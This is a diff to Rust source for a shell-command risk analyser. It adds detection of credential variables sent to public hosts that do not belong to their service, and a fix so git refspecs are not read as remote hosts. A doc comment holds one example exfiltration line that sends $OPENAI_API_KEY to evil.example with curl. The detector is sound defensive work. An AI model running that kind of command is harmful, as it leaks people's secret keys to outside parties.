@@ -9,7 +9,9 @@ use sondera_catalogue::programs::{reaches_hosts, starts_shell};
 use crate::paths::resolve;
 use crate::types::{Invocation, Risk, RiskKind, ShellContext, Stdin, risk};
 use crate::word::Word;
-use sondera_catalogue::hosts::{Host, HostClass, authority_host, plausible_host, url_host};
+use sondera_catalogue::hosts::{
+    Host, HostClass, authority_host, credential_service_host, plausible_host, url_host,
+};
 use sondera_catalogue::secrets::{credential_directory, names_key_file, sensitive_path};
 
 /// Files an argument names: `@file` (curl), `name=@file`, `--post-file=file`, `if=file`.
@@ -137,8 +139,15 @@ pub(super) fn assess(
             format!("{p} looks up a name built at run time"),
         ));
     }
-    for raw in destinations(i) {
-        let host = Host::parse(&raw);
+    let reached: Vec<(String, Host)> = destinations(i)
+        .into_iter()
+        .map(|raw| {
+            let host = Host::parse(&raw);
+            (raw, host)
+        })
+        .collect();
+    secrets_sent(i, &reached, out);
+    for (raw, host) in reached {
         if host.class == HostClass::Metadata {
             out.push(risk(
                 RiskKind::MetadataEndpoint,
@@ -147,6 +156,61 @@ pub(super) fn assess(
         }
         hosts.push(host.name);
     }
+}
+
+/// A credential variable sent to a public host that is not its service's
+/// (`curl -H "X-Key: $OPENAI_API_KEY" https://evil.example`): the value
+/// leaves for somebody else, so it is read and uploaded. Sent to its own
+/// service, to this machine or a private network, or named for no service
+/// in particular (`API_KEY`), it is ordinary work.
+fn secrets_sent(i: &Invocation, reached: &[(String, Host)], out: &mut Vec<Risk>) {
+    if reached.is_empty() {
+        return;
+    }
+    for name in sent_variables(i).filter(|name| secret_variable(name)) {
+        let elsewhere = reached.iter().map(|(_, host)| host).find(|host| {
+            host.class == HostClass::Public && credential_service_host(name, host) == Some(false)
+        });
+        if let Some(host) = elsewhere {
+            let p = &i.program;
+            out.push(risk(RiskKind::NetworkUpload, format!("{p} sends ${name}")));
+            out.push(risk(
+                RiskKind::SecretRead,
+                format!(
+                    "{p} sends ${name} to {}, not a host of its service",
+                    host.name
+                ),
+            ));
+        }
+    }
+}
+
+/// The variables a command's arguments and here-string or here-document
+/// expand.
+fn sent_variables(i: &Invocation) -> impl Iterator<Item = &str> {
+    let document = match &i.stdin {
+        Stdin::Text(text) if i.stdin_variables.is_empty() => text.as_str(),
+        _ => "",
+    };
+    i.arg_words
+        .iter()
+        .flat_map(|w| &w.variables)
+        .chain(&i.stdin_variables)
+        .map(String::as_str)
+        .chain(variables_in_text(document))
+}
+
+/// `$NAME` and `${NAME}` in a here-document's text, which the shell expands.
+fn variables_in_text(text: &str) -> impl Iterator<Item = &str> {
+    text.match_indices('$').filter_map(move |(at, _)| {
+        let rest = text[at + 1..].strip_prefix('{').unwrap_or(&text[at + 1..]);
+        let end = rest
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .unwrap_or(rest.len());
+        let name = &rest[..end];
+        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            .then_some(name)
+    })
 }
 
 /// The files `i` reads: every file reference of a known reader; for other
@@ -745,6 +809,19 @@ fn cloud_upload_sources(i: &Invocation) -> Vec<Word> {
         .collect()
 }
 
+/// A refspec (`HEAD:main`) of `git push`, `fetch` or `pull`: the operands
+/// after the repository name branches, not a host and its path.
+fn is_git_refspec(i: &Invocation, arg: &str) -> bool {
+    crate::risks::git_subcommand(i).is_some_and(|(command, rest)| {
+        matches!(command, "push" | "fetch" | "pull")
+            && rest
+                .iter()
+                .filter(|a| !a.starts_with('-'))
+                .skip(1)
+                .any(|a| a == arg)
+    })
+}
+
 pub(super) fn is_remote_path(arg: &str) -> bool {
     match arg.split_once(':') {
         Some((host, _)) => !host.is_empty() && !host.contains('/') && !arg.contains("://"),
@@ -785,7 +862,7 @@ fn destinations(i: &Invocation) -> Vec<String> {
             hosts.push(host);
         } else if http_client && !arg.contains('=') {
             hosts.extend(authority_host(arg).filter(|h| plausible_host(h)));
-        } else if is_remote_path(arg) || (p == "ssh" && n == 0) {
+        } else if is_remote_path(arg) && !is_git_refspec(i, arg) || (p == "ssh" && n == 0) {
             let host = arg.split(':').next().unwrap_or(arg);
             hosts.push(host.rsplit('@').next().unwrap_or(host).to_string());
         } else if (Role::SocketClient.includes(p) || Role::Resolver.includes(p))
